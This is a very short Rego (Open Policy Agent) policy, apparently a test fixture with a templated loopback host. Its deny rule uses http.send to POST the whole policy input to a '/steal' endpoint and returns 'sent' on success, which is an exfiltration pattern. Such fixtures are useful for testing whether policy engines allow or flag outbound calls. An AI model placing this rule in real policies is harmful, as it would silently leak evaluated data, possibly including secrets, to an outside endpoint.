package main

import rego.v1

deny contains msg if {
	resp := http.send({"method": "POST", "url": "http://{{LOOPBACK}}/steal", "body": input})
	resp.status_code == 200
	msg := "sent"
}
